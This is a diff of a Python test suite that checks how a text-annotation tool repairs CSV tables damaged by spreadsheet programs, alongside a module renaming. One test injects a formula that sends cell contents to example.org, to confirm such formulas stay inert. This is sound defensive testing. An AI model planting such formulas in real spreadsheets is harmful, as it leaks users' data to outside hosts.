@@ -12,9 +12,10 @@ from conftest import SLUG, begun
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as some
 
-from closereading import annotate, corrections, edition, mangled, spreadsheet
-from closereading.errors import InputError, InputWarning
-from closereading.format import COLUMNS
+from closereading.edition import loading, spreadsheet, spreadsheet_damage
+from closereading.workflow import annotate, begin
+from closereading.common.errors import InputError, InputWarning
+from closereading.edition.format import COLUMNS
 
 TEXT = (
     "Łódź votes\n\n“We go on January 10,” said Gérald Núñez, the mayor. He said that 2,000 people — not 007 — voted… "
@@ -58,10 +59,10 @@ def same(one, other):
 
 
 def test_the_article_of_the_book_needs_no_mending():
-    assert edition.read(SLUG)[1] == []
+    assert loading.read(SLUG)[1] == []
     with warnings.catch_warnings():
         warnings.simplefilter("error", InputWarning)
-        edition.load(SLUG)
+        loading.load(SLUG)
 
 
 DIALECTS = {
@@ -100,9 +101,9 @@ def test_every_dialect_is_read_without_a_word(folder, made, dialect):
     for name in COLUMNS:
         if rows := table(folder, name):
             (folder / f"{name}.csv").write_bytes(DIALECTS[dialect](rows))
-    loaded, notices = edition.read(folder)
+    loaded, notices = loading.read(folder)
     assert notices == []
-    same(loaded, edition.load(made))
+    same(loaded, loading.load(made))
 
 
 def test_the_row_named_is_the_spreadsheets(folder):
@@ -110,7 +111,7 @@ def test_the_row_named_is_the_spreadsheets(folder):
     rows[1]["type"] = "COUNTRY"
     (folder / "entities.csv").write_bytes(("sep=;\r" + written(rows, ";", "\r")).encode())
     with pytest.raises(InputError, match="entities.csv, row 3: found type 'COUNTRY'"):
-        edition.load(folder)
+        loading.load(folder)
 
 
 def test_windows_1252_is_said_and_what_it_lost_is_given_back(folder, made):
@@ -118,8 +119,8 @@ def test_windows_1252_is_said_and_what_it_lost_is_given_back(folder, made):
         (folder / f"{name}.csv").write_bytes(
             (folder / f"{name}.csv").read_bytes().decode("utf-8-sig").encode("cp1252", "replace")
         )
-    loaded, notices = edition.read(folder)
-    same(loaded, edition.load(made))
+    loaded, notices = loading.read(folder)
+    same(loaded, loading.load(made))
     assert any("Windows-1252" in line and "CSV UTF-8" in line for line in notices)
     assert any("'?ódź'" in line or "'?ód?'" in line for line in notices)
 
@@ -130,8 +131,8 @@ def test_utf_8_that_was_read_as_something_else_is_read_back(folder, made, page):
         data = (folder / f"{name}.csv").read_bytes()
         misread = "".join(bytes([byte]).decode(page, "ignore") or chr(0xF100 + byte) for byte in data)
         (folder / f"{name}.csv").write_bytes(misread.encode("utf-8-sig"))
-    loaded, notices = edition.read(folder)
-    same(loaded, edition.load(made))
+    loaded, notices = loading.read(folder)
+    same(loaded, loading.load(made))
     assert all("UTF-8 that was read as" in line for line in notices) and len(notices) == len(COLUMNS)
 
 
@@ -150,32 +151,32 @@ def test_utf_8_that_was_read_as_something_else_is_read_back(folder, made, page):
 def test_what_is_no_table_gets_one_line(folder, data, found):
     (folder / "entities.csv").write_bytes(data)
     with pytest.raises(InputError, match=f"entities.csv.*{found}"):
-        edition.load(folder)
+        loading.load(folder)
 
 
 def test_a_nul_far_into_a_table_is_named(copy):
     path = copy / "entities.csv"
     path.write_bytes(path.read_bytes().replace(b"Kazakhstan", b"Kazakh\0stan"))
     with pytest.raises(InputError, match="entities.csv"):
-        edition.load(copy)
+        loading.load(copy)
 
 
 CHANGED = [
-    ('"We go"', "“We go”", mangled.SPELLING), ("Moscow's", "Moscow’s", mangled.SPELLING), ("a - b", "a — b", mangled.SPELLING),
-    ("a–b", "a--b", mangled.SPELLING), ("so...", "so…", mangled.SPELLING), ("so…", "so...", mangled.SPELLING), ("a b", "a\u00a0 b", mangled.SPELLING),
-    ("a\nb", "a\r\nb", mangled.SPELLING), ("ab", "a\tb", mangled.SPELLING), ("ab", "a\x07b", mangled.SPELLING), ("?ód?", "Łódź", mangled.SPELLING),
-    ("Lódz", "Łódź", mangled.SPELLING), ("\ufffd\ufffdd", "Łód", mangled.SPELLING), ("??", "😀", mangled.SPELLING), ("\ufffd", "é", mangled.SPELLING),
-    ("â€œWeâ€\x9d", "“We”", mangled.SPELLING), ("â€œWeâ€", "“We”", mangled.SPELLING), ("‚ÄúWe‚Äù", "“We”", mangled.SPELLING), ("Ã  la", "à la", mangled.SPELLING),
-    ("e\u0301te\u0301", "été", mangled.SPELLING), ("été", "e\u0301te\u0301", mangled.SPELLING), ("'-said", "-said", mangled.GUARD), ("'=é", "=é", mangled.GUARD),
-    ("'=?", "=é", mangled.SPELLING), ("2000", "2,000", mangled.NUMBER), ("7", "007", mangled.NUMBER), ("1.5", "1.50", mangled.NUMBER), ("1,5", "1.50", ""),
-    ("1E+05", "100000", mangled.NUMBER), ("100000", "1E5", mangled.NUMBER), ("1.23457E+19", "12345678901234567890", mangled.NUMBER), ("1", "+1", mangled.NUMBER),
-    ("3.14159265358979", "3.14159265358979323846", mangled.NUMBER), ("0.05", "5%", mangled.NUMBER), ("2", "2,000", mangled.NUMBER),
-    ("10-Jan", "January 10", mangled.DATE), ("Jan-10", "January 10", mangled.DATE), ("2022-01-10", "January 10", mangled.DATE),
-    ("1/10/2022", "January 10", mangled.DATE), ("10/01/22", "January 10", mangled.DATE), ("44571", "January 10", mangled.DATE), ("10. Jan", "January 10", mangled.DATE),
-    ("Jan-22", "January 2022", mangled.DATE), ("01/01/22", "January 2022", mangled.DATE), ("11-Sep", "9/11", mangled.DATE), ("4-May", "5-4", mangled.DATE),
-    ("10:30:00", "10:30", mangled.DATE), ("3:00 PM", "3 pm", mangled.DATE), ("TRUE", "True", mangled.TRUTH), ("#NAME?", "-said", mangled.ERROR), ("#VALUE!", "=x", mangled.ERROR),
-    ("#REF!", "x", mangled.ERROR), ("Err:508", "=x", mangled.ERROR), ("#N/A", "=x", mangled.ERROR), ("#NOM?", "=x", mangled.ERROR), ("#####", "January 10", mangled.ERROR),
-    ("3", "=SUM(1,2)", mangled.FORMULA), ("x" * 32_767, "x" * 40_000, mangled.CUT), ("'=" + "x" * 32_765, "=" + "x" * 40_000, mangled.CUT),
+    ('"We go"', "“We go”", spreadsheet_damage.SPELLING), ("Moscow's", "Moscow’s", spreadsheet_damage.SPELLING), ("a - b", "a — b", spreadsheet_damage.SPELLING),
+    ("a–b", "a--b", spreadsheet_damage.SPELLING), ("so...", "so…", spreadsheet_damage.SPELLING), ("so…", "so...", spreadsheet_damage.SPELLING), ("a b", "a\u00a0 b", spreadsheet_damage.SPELLING),
+    ("a\nb", "a\r\nb", spreadsheet_damage.SPELLING), ("ab", "a\tb", spreadsheet_damage.SPELLING), ("ab", "a\x07b", spreadsheet_damage.SPELLING), ("?ód?", "Łódź", spreadsheet_damage.SPELLING),
+    ("Lódz", "Łódź", spreadsheet_damage.SPELLING), ("\ufffd\ufffdd", "Łód", spreadsheet_damage.SPELLING), ("??", "😀", spreadsheet_damage.SPELLING), ("\ufffd", "é", spreadsheet_damage.SPELLING),
+    ("â€œWeâ€\x9d", "“We”", spreadsheet_damage.SPELLING), ("â€œWeâ€", "“We”", spreadsheet_damage.SPELLING), ("‚ÄúWe‚Äù", "“We”", spreadsheet_damage.SPELLING), ("Ã  la", "à la", spreadsheet_damage.SPELLING),
+    ("e\u0301te\u0301", "été", spreadsheet_damage.SPELLING), ("été", "e\u0301te\u0301", spreadsheet_damage.SPELLING), ("'-said", "-said", spreadsheet_damage.GUARD), ("'=é", "=é", spreadsheet_damage.GUARD),
+    ("'=?", "=é", spreadsheet_damage.SPELLING), ("2000", "2,000", spreadsheet_damage.NUMBER), ("7", "007", spreadsheet_damage.NUMBER), ("1.5", "1.50", spreadsheet_damage.NUMBER), ("1,5", "1.50", ""),
+    ("1E+05", "100000", spreadsheet_damage.NUMBER), ("100000", "1E5", spreadsheet_damage.NUMBER), ("1.23457E+19", "12345678901234567890", spreadsheet_damage.NUMBER), ("1", "+1", spreadsheet_damage.NUMBER),
+    ("3.14159265358979", "3.14159265358979323846", spreadsheet_damage.NUMBER), ("0.05", "5%", spreadsheet_damage.NUMBER), ("2", "2,000", spreadsheet_damage.NUMBER),
+    ("10-Jan", "January 10", spreadsheet_damage.DATE), ("Jan-10", "January 10", spreadsheet_damage.DATE), ("2022-01-10", "January 10", spreadsheet_damage.DATE),
+    ("1/10/2022", "January 10", spreadsheet_damage.DATE), ("10/01/22", "January 10", spreadsheet_damage.DATE), ("44571", "January 10", spreadsheet_damage.DATE), ("10. Jan", "January 10", spreadsheet_damage.DATE),
+    ("Jan-22", "January 2022", spreadsheet_damage.DATE), ("01/01/22", "January 2022", spreadsheet_damage.DATE), ("11-Sep", "9/11", spreadsheet_damage.DATE), ("4-May", "5-4", spreadsheet_damage.DATE),
+    ("10:30:00", "10:30", spreadsheet_damage.DATE), ("3:00 PM", "3 pm", spreadsheet_damage.DATE), ("TRUE", "True", spreadsheet_damage.TRUTH), ("#NAME?", "-said", spreadsheet_damage.ERROR), ("#VALUE!", "=x", spreadsheet_damage.ERROR),
+    ("#REF!", "x", spreadsheet_damage.ERROR), ("Err:508", "=x", spreadsheet_damage.ERROR), ("#N/A", "=x", spreadsheet_damage.ERROR), ("#NOM?", "=x", spreadsheet_damage.ERROR), ("#####", "January 10", spreadsheet_damage.ERROR),
+    ("3", "=SUM(1,2)", spreadsheet_damage.FORMULA), ("x" * 32_767, "x" * 40_000, spreadsheet_damage.CUT), ("'=" + "x" * 32_765, "=" + "x" * 40_000, spreadsheet_damage.CUT),
     # what no program does unasked
     ("Moscow", "Moscow,", ""), ("Moscow,", "Moscow", ""), ("Moscow", "Moscow”", ""), ("“Moscow", "Moscow", ""), ("Moscow", "Moscow.", ""), ("a", "a ", ""),
     ("wait...", "wait..", ""), ("wait", "wait…", ""), ("oscow", "Moscow", ""), ("Moskva", "Moscow", ""), ("moscow", "Moscow", ""), ("5", "5.", ""), ("5", "5%", ""),
@@ -188,7 +189,7 @@ CHANGED = [
 
 @pytest.mark.parametrize("cell, words, kind", CHANGED)
 def test_what_a_program_did_is_told_from_what_a_person_did(cell, words, kind):
-    assert mangled.change(cell, words) == kind
+    assert spreadsheet_damage.change(cell, words) == kind
 
 
 FAULTS = [
@@ -215,7 +216,7 @@ def test_wrong_places_and_words_stay_faults(folder, start, end, text):
     rows[0].update({key: value for key, value in (("start", start), ("end", end), ("text", text)) if value is not None})
     write(folder, "entities", rows)
     with pytest.raises(InputError, match="entities.csv, row 2: ") as caught:
-        edition.load(folder)
+        loading.load(folder)
     assert all("to mend:" in line for line in str(caught.value).splitlines())
 
 
@@ -228,7 +229,7 @@ def test_a_span_one_off_is_a_fault_on_either_side_for_every_row(folder):
             moved[place][name] = str(int(row[name]) + by)
             write(folder, "entities", moved)
             with pytest.raises(InputError, match=f"row {place + 2}: .*(set start,end to|copy text|a whole number)"):
-                edition.load(folder)
+                loading.load(folder)
 
 
 @pytest.mark.parametrize("name", COLUMNS)
@@ -239,7 +240,7 @@ def test_a_formula_in_any_column_is_text(folder, name):
         changed[0][column] = '=WEBSERVICE("http://example.org/?"&A1)'
         write(folder, name, changed)
         try:
-            loaded, _ = edition.read(folder)
+            loaded, _ = loading.read(folder)
         except InputError as error:
             assert "row 2: found " in str(error) and "to mend:" in str(error)
         else:
@@ -250,7 +251,7 @@ def test_dates_and_errors_in_columns_of_words_are_undone_or_named(copy):
     path = copy / "entities.csv"
     text = path.read_text(encoding="utf-8")
     path.write_text(text.replace("January 10,DATE,January 10", "10-Jan,DATE,10-Jan"), encoding="utf-8")
-    loaded, notices = edition.read(copy)
+    loaded, notices = loading.read(copy)
     assert loaded.entities[loaded.entities.id == "e100"][["text", "entity"]].values.tolist() == [
         ["January 10", "January 10"]
     ]
@@ -271,7 +272,7 @@ def test_dates_and_errors_in_columns_of_words_are_undone_or_named(copy):
         with pytest.raises(
             InputError, match=f"found (entity|gloss) '{cell.replace('?', '.')}', as a spreadsheet writes {said}"
         ):
-            edition.load(copy)
+            loading.load(copy)
 
 
 def test_a_date_that_a_person_chose_stays(copy):
@@ -280,7 +281,7 @@ def test_a_date_that_a_person_chose_stays(copy):
         path.read_text(encoding="utf-8").replace("January 10,DATE,January 10", "January 10,DATE,2022-01-10"),
         encoding="utf-8",
     )
-    loaded, notices = edition.read(copy)
+    loaded, notices = loading.read(copy)
     assert "2022-01-10" in set(loaded.entities.entity) and notices == []
 
 
@@ -288,7 +289,7 @@ def test_each_repair_is_a_warning_of_load(copy):
     path = copy / "sentences.csv"
     path.write_bytes(path.read_bytes().replace("’".encode(), b"'"))
     with pytest.warns(InputWarning, match="sentences.csv, row [0-9]+: found text .*taken: .*’"):
-        edition.load(copy)
+        loading.load(copy)
 
 
 def test_a_long_file_is_read_in_time(tmp_path):
@@ -320,19 +321,19 @@ def test_a_long_file_is_read_in_time(tmp_path):
     found = spreadsheet.read(path, ["id", *COLUMNS["entities"], "by", "certainty"], ["rule", "sentence"])
     assert len(found[0]) == 100_000
     with pytest.raises(InputError):
-        edition.load(folder)
+        loading.load(folder)
     assert time.perf_counter() - started < 60
 
 
 def test_a_paragraph_longer_than_a_cell_may_be(tmp_path):
     path = tmp_path / "long.txt"
     path.write_text("Anna said that it rained and rained. " * 8_000, encoding="utf-8")
-    folder = corrections.begin(path)
+    folder = begin.begin(path)
     rows = table_of(folder / "blocks.csv")
     assert len(rows[0]["text"]) > 131_072
     rows[0]["text"] = rows[0]["text"][:32_767]
     write(folder, "blocks", rows)
-    loaded, (line,) = edition.read(folder)
+    loaded, (line,) = loading.read(folder)
     assert "the end cut off" in line and loaded.blocks.text.iloc[0] == loaded.raw.strip()
 
 
@@ -385,7 +386,7 @@ SAMPLES = [
 @given(some.lists(some.sampled_from(SAMPLES), min_size=1, max_size=12).map("".join), some.sampled_from(WAYS))
 def test_any_text_changed_by_a_spreadsheet_is_recognised(words, way):
     cell = way(words)
-    assert cell == words or mangled.change(cell, words)
+    assert cell == words or spreadsheet_damage.change(cell, words)
 
 
 @settings(max_examples=300, deadline=None)
@@ -395,14 +396,14 @@ def test_no_text_loses_letters_or_commas_unseen(words, place, length):
     cell = words[:place] + words[place + length :]
     missing = words[place : place + length]
     if any(char in "ab,.é" for char in missing) and sum(map(cell.count, "ab,.é")) < sum(map(words.count, "ab,.é")):
-        assert not mangled.change(cell, words)
+        assert not spreadsheet_damage.change(cell, words)
 
 
 @settings(max_examples=200, deadline=None)
 @given(some.text(max_size=40), some.text(max_size=40))
 def test_hostile_cells_are_answered(cell, words):
-    assert isinstance(mangled.change(cell, words), str)
-    mangled.places(cell or "x", words, 0, len(words))
+    assert isinstance(spreadsheet_damage.change(cell, words), str)
+    spreadsheet_damage.places(cell or "x", words, 0, len(words))
 
 
 @settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
@@ -429,8 +430,8 @@ def test_any_edition_changed_by_a_spreadsheet_loads_as_it_was(tmp_path_factory, 
     path.write_text("\n".join(sentences), encoding="utf-8", newline="")
     with warnings.catch_warnings():
         warnings.simplefilter("ignore", InputWarning)
-        folder = corrections.begin(path)
-        before = edition.load(folder)
+        folder = begin.begin(path)
+        before = loading.load(folder)
         for name in COLUMNS:
             rows = table(folder, name)
             for row in rows:
@@ -439,7 +440,7 @@ def test_any_edition_changed_by_a_spreadsheet_loads_as_it_was(tmp_path_factory, 
                         row[column] = way(row[column])
             if rows:
                 (folder / f"{name}.csv").write_bytes(DIALECTS[dialect](rows))
-        same(edition.load(folder), before)
+        same(loading.load(folder), before)
 
 
 def test_guards_come_off_as_they_were_put_on():
@@ -458,6 +459,6 @@ def test_guards_come_off_as_they_were_put_on():
 )
 def test_words_that_are_none_are_answered_in_time(words, cell):
     started = time.perf_counter()
-    mangled.places(cell, words, 0, len(words))
-    mangled.change("?" * len(words), words)
+    spreadsheet_damage.places(cell, words, 0, len(words))
+    spreadsheet_damage.change("?" * len(words), words)
     assert time.perf_counter() - started < 20
